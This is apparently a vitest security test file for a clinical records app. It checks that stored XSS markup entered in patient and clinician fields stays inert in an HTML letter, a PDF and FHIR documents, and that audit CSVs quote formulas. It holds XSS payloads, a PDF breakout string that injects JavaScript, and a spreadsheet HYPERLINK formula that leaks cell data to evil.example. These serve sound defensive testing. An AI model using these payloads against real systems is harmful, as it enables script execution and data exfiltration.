import zlib from 'node:zlib';
import { bearer, createTestApp, fhirProblems, personas, type TestApp } from '@meridian/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

// Stored XSS (OWASP ASVS 5.3.3, 5.3.6): a patient and a clinician type markup into every free-text field
// that ends up in the visit-summary letter (HTML and PDF), the FHIR document's narratives and the FHIR
// resources. The letter and the narratives show it as text (escaped), the PDF shows it literally (its
// strings cannot break out of the PDF syntax), and JSON gives it back as the same data.

/** A field's hostile text, tagged so that each field can be found in the output. */
const hostile = (tag: string) => `${tag} <script>alert('${tag}')</script> "><img src=x onerror=alert(1)>`;
/** For fields of at most 40 characters. */
const short = (tag: string) => `${tag} "><svg onload=alert(1)>`;
/** Already-escaped markup must not be decoded into markup on the way out (double escaping is correct). */
const preEscaped = (tag: string) => `${tag} &lt;script&gt;alert(1)&lt;/script&gt; &#x3C;b&#x3E;`;
/** Breaks out of a PDF string literal if the PDF writer does not escape parentheses and backslashes. */
const pdfBreakout = ') >> /OpenAction << /S /JavaScript /JS (app.alert(1)) >> (\\';

const field = {
  reasons: hostile('F01'),
  medicine: hostile('F02'),
  medicineDose: hostile('F03'),
  medicineFrequency: hostile('F04'),
  allergySubstance: hostile('F05'),
  allergyReaction: hostile('F06'),
  condition: hostile('F07'),
  biological: hostile('F08'),
  psychological: hostile('F09'),
  social: preEscaped('F10'),
  environmental: hostile('F11'),
  behavioural: hostile('F12'),
  goalWhat: hostile('F13'),
  goalHowMeasured: hostile('F14'),
  therapyFrequency: hostile('F15'),
  selfCarePractice: hostile('F16'),
  selfCareFrequency: hostile('F17'),
  supplementName: hostile('F18'),
  supplementDose: hostile('F19'),
  supplementReason: hostile('F20'),
  acknowledgement: hostile('F21'),
  pcpName: hostile('F22'),
  pcpOrganization: hostile('F23'),
  pcpAddress: hostile('F24'),
  pcpPhone: short('F25'),
  pcpFax: short('F26'),
  /** Names are not writable through the API; set in the database as an import or migration could. */
  patientFamilyName: `${short('F27')}${pdfBreakout}`,
  clinicianName: hostile('F28'),
  /** Only in JSON answers (the letter does not show them). */
  consultationNotes: hostile('F29'),
  therapyNotes: hostile('F30'),
  signReason: hostile('F31'),
  diaryNotes: hostile('F32'),
};

/** The letter's escaping: the five characters HTML gives meaning to. */
const asHtmlText = (s: string) =>
  s
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/"/g, '&quot;')
    .replace(/'/g, '&#39;');

const letterTags = new Set(
  'html head meta title style body header div main p address br h1 h2 h3 dl dt dd section ul li strong a footer'.split(
    ' ',
  ),
);
const narrativeTags = new Set('div p ul li b i br span table thead tbody tr th td h3 h4'.split(' '));

/** Every tag in the markup is one the renderer writes itself, with no event handler or script URL. */
function expectInertMarkup(markup: string, allowed: Set<string>, label: string): void {
  expect(markup, label).not.toMatch(/<script/i);
  const tags = [...markup.matchAll(/<\/?([a-zA-Z][\w-]*)([^>]*)>/g)];
  expect(tags.length, label).toBeGreaterThan(3);
  for (const [tag, name, attributes] of tags) {
    expect(allowed.has(name!.toLowerCase()), `${label}: unexpected ${tag}`).toBe(true);
    expect(attributes, `${label}: ${tag}`).not.toMatch(/\son[a-z]+\s*=|javascript:/i);
  }
}

/** The text a pdfkit PDF shows: inflate its content streams, then read the hex strings of TJ arrays. */
function pdfText(pdf: Buffer): string {
  const raw = pdf.toString('latin1');
  let content = '';
  for (const m of raw.matchAll(/<<((?:(?!>>\s*stream)[\s\S])*)>>\s*stream\r?\n/g)) {
    const start = m.index + m[0].length;
    const bytes = pdf.subarray(start, raw.indexOf('endstream', start));
    content += m[1]!.includes('/FlateDecode')
      ? zlib.inflateSync(bytes, { finishFlush: zlib.constants.Z_SYNC_FLUSH }).toString('latin1')
      : bytes.toString('latin1');
  }
  const lines: string[] = [];
  for (const m of content.matchAll(/\[([^\]]*)\] TJ/g)) {
    let line = '';
    for (const hex of m[1]!.matchAll(/<([0-9a-f]*)>/g))
      line += Buffer.from(hex[1]!, 'hex').toString('latin1');
    lines.push(line);
  }
  return lines.join(' ');
}

/** Reads the PDF literal or hex string that starts at `at` (PDF 1.7, 7.3.4), as the PDF reader would. */
function pdfString(raw: string, at: number): string {
  if (raw[at] === '<') {
    const hex = raw.slice(at + 1, raw.indexOf('>', at));
    const bytes = Buffer.from(hex, 'hex');
    return bytes[0] === 0xfe && bytes[1] === 0xff
      ? bytes.subarray(2).swap16().toString('utf16le')
      : bytes.toString('latin1');
  }
  expect(raw[at]).toBe('(');
  let out = '';
  let depth = 1;
  for (let i = at + 1; i < raw.length; i++) {
    const c = raw[i]!;
    if (c === '\\') {
      const next = raw[++i]!;
      out += { n: '\n', r: '\r', t: '\t', b: '\b', f: '\f' }[next] ?? next;
      continue;
    }
    if (c === '(') depth++;
    if (c === ')' && --depth === 0) return out;
    out += c;
  }
  throw new Error('unterminated PDF string');
}

let t: TestApp;
let davidId: string;
let summaryId: string;
let kim: { authorization: string };
let david: { authorization: string };

const call = (
  who: { authorization: string },
  method: 'GET' | 'POST' | 'PUT',
  url: string,
  payload?: object,
) => t.app.inject({ method, url, headers: who, ...(payload ? { payload } : {}) });

async function ok(
  who: { authorization: string },
  method: 'GET' | 'POST' | 'PUT',
  url: string,
  payload?: object,
) {
  const res = await call(who, method, url, payload);
  expect(res.statusCode, `${method} ${url}: ${res.body.slice(0, 400)}`).toBeLessThan(300);
  return res;
}

beforeAll(async () => {
  t = await createTestApp();
  const [row] = await t.db.query<{ id: string }>('SELECT id FROM patients WHERE mrn = $1', [
    personas.david.mrn,
  ]);
  davidId = row!.id;
  await t.db.query('UPDATE patients SET family_name = $1 WHERE id = $2', [field.patientFamilyName, davidId]);
  await t.db.query('UPDATE users SET display_name = $1 WHERE email = $2', [
    field.clinicianName,
    personas.npKim.email,
  ]);
  kim = bearer(await t.login(personas.npKim.email));
  david = bearer(await t.login(personas.david.email));
  const base = `/api/patients/${davidId}`;

  // The patient's intake: her reasons, a medicine, an allergy (and St John's wort with sertraline, so that
  // the safety check finds an interaction the clinician acknowledges).
  await ok(david, 'PUT', `${base}/intake`, {
    reasons: field.reasons,
    medicines: [
      { kind: 'medicine', name: 'sertraline', dose: '50 mg', frequency: 'daily' },
      { kind: 'supplement', name: "St John's wort", dose: '300 mg', frequency: 'daily' },
      {
        kind: 'supplement',
        name: field.medicine,
        dose: field.medicineDose,
        frequency: field.medicineFrequency,
      },
    ],
    allergies: [{ substance: field.allergySubstance, reaction: field.allergyReaction, severity: 'moderate' }],
  });
  await ok(david, 'POST', `${base}/intake/submit`);
  await ok(david, 'PUT', `${base}/diary/2026-11-21`, { painNow: 5, notes: field.diaryNotes });

  await ok(kim, 'PUT', `${base}/primary-care-provider`, {
    primaryCareProvider: {
      name: field.pcpName,
      organization: field.pcpOrganization,
      address: field.pcpAddress,
      phone: field.pcpPhone,
      fax: field.pcpFax,
    },
  });
  const consultation = (await ok(kim, 'POST', `${base}/consultations`, {})).json().consultation.id as string;
  await ok(kim, 'POST', `${base}/regimen`, { category: 'condition', text: field.condition });
  await ok(kim, 'POST', `${base}/regimen`, { category: 'condition', text: 'chronic low back pain' });
  const regimen = (await ok(kim, 'GET', `${base}/regimen`)).json() as {
    items: { id: string; verified: boolean; status: string }[];
    findings: { id: string }[];
  };
  for (const item of regimen.items.filter((i) => !i.verified && i.status === 'active'))
    await ok(kim, 'POST', `${base}/regimen/${item.id}/verify`, {});
  expect(regimen.findings.length).toBeGreaterThan(0);
  for (const finding of regimen.findings)
    await ok(kim, 'POST', `${base}/safety-findings/${finding.id}/acknowledge`, {
      note: field.acknowledgement,
    });

  await ok(kim, 'PUT', `${base}/consultations/${consultation}`, {
    formulation: {
      biological: field.biological,
      psychological: field.psychological,
      social: field.social,
      environmental: field.environmental,
      behavioural: field.behavioural,
    },
    notes: field.consultationNotes,
    plan: {
      conditions: ['chronic-low-back-pain'],
      goals: [
        {
          id: 'g1',
          what: field.goalWhat,
          measure: 'peg',
          comparator: '<=',
          target: 4,
          byWeeks: 12,
          howMeasured: field.goalHowMeasured,
        },
      ],
      interventions: [
        {
          id: 'i1',
          therapy: 'acupuncture',
          frequency: field.therapyFrequency,
          sessions: 6,
          notes: field.therapyNotes,
        },
      ],
      selfCare: [{ id: 's1', practice: field.selfCarePractice, frequency: field.selfCareFrequency }],
      supplements: [
        {
          name: field.supplementName,
          action: 'start',
          dose: field.supplementDose,
          reason: field.supplementReason,
        },
      ],
      education: ['sleep-hygiene'],
      reviewDate: '2027-02-15',
    },
  });
  summaryId = (
    await ok(kim, 'POST', `${base}/consultations/${consultation}/sign`, { reason: field.signReason })
  ).json().summaryId;
});
afterAll(() => t.close());

/** The fields the letter, its PDF and the FHIR document show. */
const shownInLetter = Object.entries(field).filter(
  ([name]) => !['consultationNotes', 'therapyNotes', 'signReason', 'diaryNotes'].includes(name),
);

describe('the visit-summary letter (HTML)', () => {
  it('shows every hostile field as text: no markup of its own, nothing that runs', async () => {
    const res = await ok(kim, 'GET', `/api/patients/${davidId}/visit-summaries/${summaryId}/letter.html`);
    expect(res.headers['content-type']).toMatch(/^text\/html/);
    const html = res.body;
    expectInertMarkup(html, letterTags, 'letter.html');
    for (const [name, value] of shownInLetter) expect(html, name).toContain(asHtmlText(value));
    // Entities typed by the user stay text: "&lt;" is shown as "&lt;", not as "<".
    expect(html).toContain('F10 &amp;lt;script&amp;gt;');
    expect(html).toMatch(/<title>Visit summary: [^<]*F27 &quot;&gt;&lt;svg onload=alert\(1\)&gt;/);
  });

  it('is served with a policy that would stop a script even if one got in', async () => {
    const res = await ok(kim, 'GET', `/api/patients/${davidId}/visit-summaries/${summaryId}/letter.html`);
    const csp = String(res.headers['content-security-policy']);
    expect(csp).toContain("script-src 'self'");
    expect(csp).toContain("script-src-attr 'none'");
    expect(csp).not.toMatch(/script-src[^;]*'unsafe-inline'/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.body).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'`);
  });
});

describe('the visit-summary letter (PDF)', () => {
  it('shows every hostile field literally, and its title cannot break out of the PDF syntax', async () => {
    const res = await ok(kim, 'GET', `/api/patients/${davidId}/visit-summaries/${summaryId}/letter.pdf`);
    expect(res.headers['content-type']).toBe('application/pdf');
    const pdf = res.rawPayload;
    const squeeze = (s: string) => s.replace(/\s+/g, '');
    const text = squeeze(pdfText(pdf));
    for (const [name, value] of shownInLetter) expect(text, name).toContain(squeeze(value));
    expect(text).toContain(squeeze('F10 &lt;script&gt;alert(1)&lt;/script&gt;'));

    const raw = pdf.toString('latin1');
    // The document title (in the Info dictionary, an indirect object) reads back whole.
    const titleObject = /\/Title (\d+) 0 R/.exec(raw)![1];
    const title = new RegExp(`\\n${titleObject} 0 obj\\s*`).exec(raw)!;
    const decoded = pdfString(raw, title.index + title[0].length);
    expect(decoded.startsWith(`Visit summary: David ${field.patientFamilyName}, `), decoded).toBe(true);
    expect(decoded).toMatch(/, [A-Z][a-z]+ \d+, \d{4}$/);
    // The only actions are links to web addresses: no JavaScript, no action on opening.
    const outsideStrings = raw.replace(/\((?:\\.|[^\\)])*\)/g, '()');
    expect(outsideStrings).not.toMatch(/\/(JavaScript|JS|OpenAction|Launch|SubmitForm|ImportData)\b/);
    for (const uri of raw.matchAll(/\/URI\s*\(([^)]*)\)/g)) expect(uri[1]).toMatch(/^https?:\/\//);
  });
});

describe('the FHIR document', () => {
  it('escapes every hostile field in the narratives, keeps it as data in the resources, and validates', async () => {
    const viaApi = (
      await ok(kim, 'GET', `/api/patients/${davidId}/visit-summaries/${summaryId}/document`)
    ).json();
    const viaFhir = (await ok(kim, 'GET', `/fhir/R4/Composition/${summaryId}/$document`)).json();
    for (const bundle of [viaApi, viaFhir]) {
      expect(fhirProblems(bundle)).toEqual([]);
      const resources = (
        bundle.entry as { resource: { resourceType: string } & Record<string, unknown> }[]
      ).map((e) => e.resource);
      const composition = resources.find((r) => r.resourceType === 'Composition') as unknown as {
        section: { title: string; text: { div: string } }[];
      };
      const narratives = composition.section.map((s) => s.text.div).join('\n');
      for (const section of composition.section)
        expectInertMarkup(section.text.div, narrativeTags, section.title);
      for (const name of [
        'reasons',
        'biological',
        'condition',
        'medicine',
        'allergyReaction',
        'goalWhat',
        'acknowledgement',
      ] as const)
        expect(narratives, name).toContain(asHtmlText(field[name]));
      // As data, the resources carry the text exactly as typed.
      const strings = JSON.stringify(resources);
      for (const name of [
        'condition',
        'medicine',
        'allergySubstance',
        'goalWhat',
        'acknowledgement',
        'supplementReason',
      ] as const)
        expect(strings, name).toContain(JSON.stringify(field[name]).slice(1, -1));
      // The letter attached to the document is the escaped one.
      const letter = resources.find((r) => r.resourceType === 'DocumentReference') as unknown as {
        content: { attachment: { data: string } }[];
      };
      const attached = Buffer.from(letter.content[0]!.attachment.data, 'base64').toString('utf8');
      expectInertMarkup(attached, letterTags, 'attached letter');
      expect(attached).toContain(asHtmlText(field.reasons));
    }
  });

  it('gives the clinical resources over FHIR with the hostile text as data, each valid', async () => {
    const types = [
      'Condition',
      'MedicationStatement',
      'AllergyIntolerance',
      'DetectedIssue',
      'CarePlan',
      'Goal',
    ];
    const seen: string[] = [];
    for (const type of types) {
      const bundle = (await ok(kim, 'GET', `/fhir/R4/${type}?patient=${davidId}&_count=100`)).json();
      expect(fhirProblems(bundle), type).toEqual([]);
      seen.push(JSON.stringify(bundle));
    }
    const all = seen.join('\n');
    for (const name of [
      'condition',
      'medicine',
      'allergyReaction',
      'acknowledgement',
      'goalWhat',
      'selfCarePractice',
    ] as const)
      expect(all, name).toContain(JSON.stringify(field[name]).slice(1, -1));
    expect(all).not.toContain('&lt;script');
  });
});

describe('JSON answers', () => {
  it('give the hostile text back exactly as typed, as JSON', async () => {
    const base = `/api/patients/${davidId}`;
    const consultations = (await ok(kim, 'GET', `${base}/consultations`)).json().consultations as {
      id: string;
    }[];
    const workspace = await ok(kim, 'GET', `${base}/consultations/${consultations[0]!.id}`);
    expect(workspace.headers['content-type']).toMatch(/^application\/json/);
    expect(workspace.json().consultation.notes).toBe(field.consultationNotes);
    expect(JSON.stringify(workspace.json())).toContain(JSON.stringify(field.therapyNotes));

    const intake = (await ok(david, 'GET', `${base}/intake`)).json().intake;
    expect(intake.answers.reasons).toBe(field.reasons);
    const diary = (await ok(david, 'GET', `${base}/diary?from=2026-11-21&to=2026-11-21`)).json();
    expect(JSON.stringify(diary)).toContain(JSON.stringify(field.diaryNotes));
    const plan = (await ok(david, 'GET', `${base}/care-plan`)).json().plan;
    expect(plan.shown.reason).toBe(field.signReason);
    const patient = (await ok(kim, 'GET', base)).json().patient;
    expect(JSON.stringify(patient)).toContain(JSON.stringify(field.patientFamilyName).slice(1, -1));
    expect(plan.shown.goals[0].what).toBe(field.goalWhat);
    const summaries = (await ok(david, 'GET', `${base}/visit-summaries`)).json();
    expect(summaries.summaries[0].clinician).toBe(field.clinicianName);
  });

  it('quotes text that a spreadsheet would run as a formula in the audit CSV', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const [james] = await t.db.query<{ id: string }>('SELECT id FROM patients WHERE mrn = $1', [
      personas.james.mrn,
    ]);
    await ok(kim, 'POST', `/api/patients/${james!.id}/break-glass`, { reason: formula });
    const admin = bearer(await t.login(personas.admin.email));
    const csv = (await ok(admin, 'GET', '/api/admin/audit.csv?action=break_glass')).body;
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    expect(csv).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});
